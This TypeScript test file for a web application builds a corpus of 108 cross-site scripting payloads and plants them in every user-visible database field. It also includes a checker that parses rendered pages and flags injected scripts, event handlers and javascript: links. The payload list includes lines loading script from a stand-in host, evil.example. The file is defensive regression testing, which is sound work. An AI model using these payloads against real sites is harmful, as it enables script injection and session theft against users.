/**
 * The XSS corpus (issue 14): 108 payloads (36 vectors, each bare, after `">` and after `'>`, so
 * they try to leave text, a double-quoted and a single-quoted attribute), and the check a page's
 * HTML must pass once they are in it: parsed as a browser parses it (happy-dom, no scripts run),
 * no element or attribute from a payload exists.
 */
import Database from "better-sqlite3";
import { Window } from "happy-dom";
import type { RoleName, TrustWorld } from "@tests/factories/trust-world";
import { renderDocHtml } from "~/modules/catalog/richtext.server";

const VECTORS = [
  `<script>alert(1)</script>`,
  `<script data-xss src=//evil.example/x.js></script>`,
  `<img data-xss src=x onerror=alert(1)>`,
  `<img data-xss src="x" onerror="alert(1)">`,
  `<svg data-xss onload=alert(1)>`,
  `<svg data-xss><script>alert(1)</script></svg>`,
  `<iframe data-xss src="javascript:alert(1)"></iframe>`,
  `<iframe data-xss srcdoc="<script>alert(1)</script>"></iframe>`,
  `<a data-xss href="javascript:alert(1)">点我</a>`,
  `<a data-xss href="jav&#x09;ascript:alert(1)">点我</a>`,
  `<body data-xss onload=alert(1)>`,
  `<details data-xss open ontoggle=alert(1)>`,
  `<input data-xss autofocus onfocus=alert(1)>`,
  `<video data-xss><source onerror=alert(1)></video>`,
  `<audio data-xss src=x onerror=alert(1)>`,
  `<object data-xss data="javascript:alert(1)"></object>`,
  `<embed data-xss src="javascript:alert(1)">`,
  `<form data-xss action="javascript:alert(1)"><button>提交</button></form>`,
  `<button data-xss formaction="javascript:alert(1)">按钮</button>`,
  `<math data-xss><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<noscript><p title="</noscript><img data-xss src=x onerror=alert(1)>">`,
  `<style>@import 'javascript:alert(1)';</style><b data-xss>`,
  `<base data-xss href="//evil.example/">`,
  `<meta data-xss http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<link data-xss rel=stylesheet href="javascript:alert(1)">`,
  `<marquee data-xss onstart=alert(1)>`,
  `<div data-xss style="background:url(javascript:alert(1))">`,
  `" onmouseover="alert(1)" data-xss="`,
  `' onmouseover='alert(1)' data-xss='`,
  `javascript:alert(1)`,
  `</script><script>alert(1)</script>`,
  `</textarea><img data-xss src=x onerror=alert(1)>`,
  `</title><img data-xss src=x onerror=alert(1)>`,
  `{{constructor.constructor('alert(1)')()}}<b data-xss>`,
  `\u003cimg data-xss src=x onerror=alert(1)\u003e`,
  `<![CDATA[<img data-xss src=x onerror=alert(1)>]]>`,
];

export const XSS_PAYLOADS: string[] = VECTORS.flatMap((v) => [v, `">${v}`, `'>${v}`]);

/**
 * Problems in a parsed document: elements or attributes a payload put there. Self-contained (no
 * imports, no outer names) so Chromium can run it on a live page too (`page.evaluate`), where our
 * scripts' nonce is only in the `nonce` property (the browser hides the attribute).
 */
export function domProblems(doc: Document): string[] {
  const out: string[] = [];
  for (const el of Array.from(doc.querySelectorAll("*"))) {
    const tag = el.tagName.toLowerCase();
    if (el.hasAttribute("data-xss")) out.push(`<${tag} data-xss> from a payload`);
    for (const a of Array.from(el.attributes)) {
      const name = a.name.toLowerCase();
      if (name.startsWith("on")) out.push(`<${tag} ${name}=…>`);
      if (
        ["href", "src", "action", "formaction", "data", "xlink:href", "srcdoc"].includes(name) &&
        /^\s*(javascript|vbscript|data:text\/html)/i.test(
          // eslint-disable-next-line no-control-regex -- browsers drop control characters inside a scheme
          (a.value ?? "").replace(/[\u0000-\u001f]/g, ""),
        )
      )
        out.push(`<${tag} ${name}="${(a.value ?? "").slice(0, 40)}">`);
    }
    if (["iframe", "object", "embed", "base", "marquee"].includes(tag))
      out.push(`a <${tag}> element`);
    if (tag === "meta" && el.getAttribute("http-equiv")) out.push("a <meta http-equiv>");
    const nonce = (el as HTMLElement).nonce || el.getAttribute("nonce");
    if (tag === "script" && !nonce && !/json/.test(el.getAttribute("type") ?? ""))
      out.push("a <script> without our nonce");
  }
  return Array.from(new Set(out));
}

/** Problems in a page's HTML: elements or attributes a payload put there. */
export function injectedProblems(html: string): string[] {
  const window = new Window({
    settings: {
      disableJavaScriptEvaluation: true,
      disableJavaScriptFileLoading: true,
      disableCSSFileLoading: true,
      navigation: { disableMainFrameNavigation: true },
    },
  });
  try {
    const doc = window.document;
    doc.write(html);
    return domProblems(doc as unknown as Document);
  } finally {
    void window.happyDOM.close();
  }
}

/** The corpus in pieces of at most `max` characters (for fields with a length CHECK). */
function chunks(payloads: string[], max: number) {
  const out: string[] = [""];
  for (const p of payloads) {
    if ((out.at(-1)! + p).length + 3 > max) out.push("");
    out[out.length - 1] += `${p} ‖ `;
  }
  return out;
}

/** A tiptap document carrying every payload as text, link targets, image sources and alt text. */
export function hostileDoc(payloads: string[] = XSS_PAYLOADS) {
  return {
    type: "doc",
    content: [
      { type: "heading", attrs: { level: 2 }, content: [{ type: "text", text: payloads[0]! }] },
      ...payloads.map((p) => ({
        type: "paragraph",
        content: [{ type: "text", text: p, marks: [{ type: "bold" }] }],
      })),
    ],
  };
}

/**
 * Puts the payloads into every free-text field people see, in the world's database (before its
 * server starts): names, family members, course title/summary/body (a tiptap document), activities,
 * topics, proposals and their comments, organisations, evaluations, messages and their links,
 * teachers, the academy's name. Long fields hold all payloads joined; capped ones hold pieces.
 */
export function storeXssPayloads(world: TrustWorld, payloads: string[]) {
  const ALL = payloads.join(" ‖ ");
  const db = new Database(world.file);
  const now = Date.now();
  const i = world.ids;
  const academyId = (
    db.prepare("select id from academies where slug = ?").get(i.academyA) as { id: number }
  ).id;
  db.prepare("update users set name = ? where id = ?").run(`居民${ALL}`, world.userIds.resident);
  db.prepare(
    "insert into family_members (owner_user_id, name, relation, birth_year, created_at, updated_at) values (?, ?, '父亲', 1950, ?, ?)",
  ).run(world.userIds.resident, ALL, now, now);
  const html = renderDocHtml(hostileDoc(payloads));
  db.prepare(
    "update course_versions set title = ?, summary = ?, body_html = ?, body_text = ? where course_id = ?",
  ).run(`课程${ALL}`, ALL, html, ALL, i.courseId);
  db.prepare("update activities set title = ?, description = ?, place = ? where id = ?").run(
    `活动${ALL}`,
    ALL,
    ALL,
    i.activityA,
  );
  db.prepare(
    "update topics set title = ?, description = ?, visibility = 'public' where id = ?",
  ).run(`议题${ALL}`, ALL, i.topicA);
  for (const chunk of chunks(payloads, 480))
    db.prepare(
      "insert into proposal_comments (proposal_id, user_id, body, created_at) values (?, ?, ?, ?)",
    ).run(i.proposalA, world.userIds.resident, chunk, now);
  db.prepare("update course_proposals set title = ?, summary = ? where id = ?").run(
    `公示${ALL}`,
    ALL,
    i.proposalA,
  );
  db.prepare("update organisations set name = ?, description = ? where id = ?").run(
    `组织${ALL}`,
    ALL,
    i.organisationA,
  );
  const evals = db
    .prepare(
      "select e.id from evaluations e join enrollments n on n.id = e.enrollment_id join class_runs r on r.id = n.run_id where r.academy_id = ?",
    )
    .all(academyId) as { id: number }[];
  const evalChunks = chunks(payloads, 900);
  evals.forEach((e, k) =>
    db
      .prepare("update evaluations set comment = ?, hidden_at = null where id = ?")
      .run(evalChunks[k % evalChunks.length], e.id),
  );
  for (const [n, p] of payloads.slice(0, 20).entries())
    db.prepare(
      "insert into notifications (user_id, title, body, link, created_at) values (?, ?, ?, ?, ?)",
    ).run(world.userIds.resident, `消息${p}`, p, n % 2 ? "javascript:alert(1)" : p, now + n);
  db.prepare("update teachers set display_name = ?, bio = ? where id = ?").run(
    `教师${ALL}`,
    ALL,
    i.teacherId,
  );
  db.prepare("update academies set name = ? where id = ?").run(
    `书院${ALL.slice(0, 2000)}`,
    academyId,
  );
  db.close();
}

/** The pages that show the stored payloads, each as a role that sees it. */
export const XSS_PAGES: [RoleName, (w: TrustWorld) => string][] = [
  ["resident", () => "/me"],
  ["resident", () => "/me/family"],
  ["resident", () => "/me/messages"],
  ["resident", () => "/me/classes"],
  ["anonymous", (w) => `/courses/${w.ids.courseCode}`],
  ["anonymous", () => "/courses"],
  ["anonymous", (w) => `/classes/${w.ids.runA}`],
  ["anonymous", () => "/classes"],
  ["anonymous", (w) => `/activities/${w.ids.activityA}`],
  ["anonymous", () => "/activities"],
  ["anonymous", (w) => `/topics/${w.ids.topicA}`],
  ["resident", (w) => `/proposals/${w.ids.proposalA}`],
  ["anonymous", (w) => `/organisations/${w.ids.organisationA}`],
  ["anonymous", (w) => `/teachers/${w.ids.teacherId}`],
  ["anonymous", (w) => `/academies/${w.ids.academyA}`],
  ["anonymous", () => "/academies"],
  ["managerA", (w) => `/manage/${w.ids.academyA}`],
  ["managerA", (w) => `/manage/${w.ids.academyA}/evaluations`],
  ["managerA", (w) => `/manage/${w.ids.academyA}/topics/${w.ids.topicA}`],
  ["managerA", (w) => `/manage/${w.ids.academyA}/activities/${w.ids.activityA}`],
  ["managerA", (w) => `/manage/${w.ids.academyA}/organisations`],
  ["managerA", (w) => `/manage/${w.ids.academyA}/runs/${w.ids.runA}/roster`],
  ["teacher", (w) => `/teach/runs/${w.ids.runA}`],
  ["hqEditor", (w) => `/hq/courses/${w.ids.courseId}`],
  ["hqEditor", () => "/hq/teachers"],
  ["hqAdmin", (w) => `/hq/users/${w.userIds.resident}`],
  ["hqAdmin", () => "/hq/users"],
  ["districtOwn", () => "/district/evaluations"],
];
